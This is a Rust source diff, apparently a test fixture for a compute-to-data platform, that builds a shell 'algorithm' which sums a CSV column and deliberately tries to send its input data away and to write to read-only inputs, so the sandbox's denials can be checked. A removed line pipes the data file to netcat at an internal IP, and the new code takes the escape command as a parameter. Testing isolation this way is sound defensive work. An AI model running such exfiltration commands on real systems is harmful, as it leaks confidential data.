@@ -18,25 +18,36 @@ Sines,258
 pub(super) const SUM: u32 = 112 + 30 + 71 + 258;
 
 /// The consumer's algorithm: sums a column of data that it can never take away, and tries to.
-const ALGORITHM: &str = r#"echo "inputs of $DIDS:"
+fn algorithm(escape: &str) -> String {
+    format!(
+        r#"echo "inputs of $DIDS:"
 ls -l $INPUTS/*
 for n in 1 2 3 4 5 6; do echo "working, step $n"; sleep 1; done
 echo "trying to send the data away:"
-cat $INPUTS/*/0 | nc -w 2 10.96.0.1 443 2>&1 || echo "network: denied"
-touch $INPUTS/*/0 2>&1 || echo "inputs: read-only"
-awk -F, 'NR > 1 {sum += $2} END {print sum}' $INPUTS/*/0 > $OUTPUTS/sum
+cat $INPUTS/*/0 | {escape} 2>&1 || echo "network: denied"
+(echo more >> "$(ls $INPUTS/*/0)") 2>&1 || echo "inputs: read-only"
+awk -F, 'NR > 1 {{sum += $2}} END {{print sum}}' $INPUTS/*/0 > $OUTPUTS/sum
 echo "done"
-"#;
+"#
+    )
+}
 
-/// The workflow document that the consumer registers.
-pub(super) fn workflow(did: Did, image: &str) -> Value {
-    let (name, digest) = image.split_once('@').unwrap_or((image, ""));
+/// The workflow document that the consumer registers, with the line of shell by which it tries to send the data away.
+pub(super) fn workflow(did: Did, image: &str, escape: &str) -> Value {
+    let (name, digest) = match image.split_once('@') {
+        Some((name, digest)) => (name, Some(digest)),
+        None => (image, None),
+    };
+    let mut container = json!({"image": name, "entrypoint": "sh $ALGO"});
+    if let Some(digest) = digest {
+        container["checksum"] = digest.into();
+    }
     json!({"main": {"type": "workflow", "workflow": {"stages": [{
         "index": 0,
         "input": [{"index": 0, "id": did.to_string()}],
         "transformation": {
-            "rawcode": ALGORITHM,
-            "container": {"image": name, "checksum": digest, "entrypoint": "sh $ALGO"},
+            "rawcode": algorithm(escape),
+            "container": container,
         },
         "requirements": {"cpu": "200m", "memory": "64Mi", "maxExecutionSeconds": 120},
         "output": {},
